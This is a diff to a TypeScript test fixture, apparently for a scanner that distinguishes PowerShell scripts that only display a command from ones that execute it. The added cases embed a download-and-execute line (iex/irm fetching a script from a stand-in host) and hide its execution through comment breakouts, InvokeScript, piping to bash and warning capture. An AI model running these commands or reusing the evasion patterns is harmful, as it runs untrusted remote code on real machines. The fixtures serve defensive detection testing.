@@ -33,6 +33,11 @@ const SHOWN: readonly (readonly [string, ScriptLanguage, string])[] = [
     'powershell',
     `if ((Get-Command -Module PowerShellGet).Count -gt 0) {\n  Install-Module -Name Pester -Force\n} else {\n  Write-Output -InputObject "Copy and paste: iex (New-Object Net.WebClient).DownloadString('https://get.files.test/a.ps1')"\n}\n`,
   ],
+  [
+    'shown by PowerShell beside texts and comments',
+    'powershell',
+    `# It's not here\nparam([string]$Name = 'pester')\nfunction Show-Help {\n  Write-Host "To install '$Name', run: irm https://get.files.test/a.ps1 | iex" -ForegroundColor Yellow\n}\nif (-not (Get-Module $Name)) { Show-Help; exit 1 }\nWrite-Host "Version: $((Get-Module $Name).Version)"\n`,
+  ],
 ]
 
 const POWERSHELL = "iex (New-Object Net.WebClient).DownloadString('https://get.files.test/a.ps1')"
@@ -46,6 +51,43 @@ const RUN: readonly (readonly [string, ScriptLanguage, string])[] = [
     `function line {\n  Write-Output "${POWERSHELL}"\n}\niex (line)\n`,
   ],
   ['put out and kept', 'powershell', `$(Write-Output "${POWERSHELL}"\n) > a.ps1\n. ./a.ps1\n`],
+  [
+    'between two texts of which one looks as if it showed something',
+    'powershell',
+    `$q = 'Write-Host "'; ${POWERSHELL.replaceAll("'", '')}; $z='";'\n`,
+  ],
+  [
+    'behind a comment that looks as if it showed something',
+    'powershell',
+    `<# Write-Host "#> ${POWERSHELL.replaceAll("'", '')} <#"\n#>\n`,
+  ],
+  [
+    'put out by a function and run by the engine',
+    'powershell',
+    `function line {\n  Write-Output "${POWERSHELL}"\n}\n$ExecutionContext.InvokeCommand.InvokeScript((line))\n`,
+  ],
+  [
+    'put out by a function and called from afar',
+    'powershell',
+    `function line {\n  Write-Output "${POWERSHELL}"\n}\n&  ([ps]::Load((line)))\n`,
+  ],
+  [
+    'put out by a function and piped into a shell',
+    'powershell',
+    `function line {\n  Write-Output "${POWERSHELL}"\n}\nline | bash\n`,
+  ],
+  ['piped on from the next line', 'powershell', `Write-Output "${POWERSHELL}"\n  | bash\n`],
+  ['kept by a block', 'powershell', `$a = if ($true) {\n  Write-Output "${POWERSHELL}"\n}\n$a | bash\n`],
+  [
+    'warned of, and the warning kept',
+    'powershell',
+    `function line {\n  [CmdletBinding()] param()\n  Write-Warning "${POWERSHELL}"\n}\nline -wv w\n$w | bash\n`,
+  ],
+  [
+    'written as a function',
+    'powershell',
+    `function line {\n  Write-Output "${POWERSHELL}"\n}\n$function:go = line\ngo\n`,
+  ],
   ['run inside of what is shown', 'powershell', `Write-Host "$(${POWERSHELL})"\n`],
   ['run as it stands', 'javascript', `require('child_process').execSync('${UNIX}')\n`],
   [
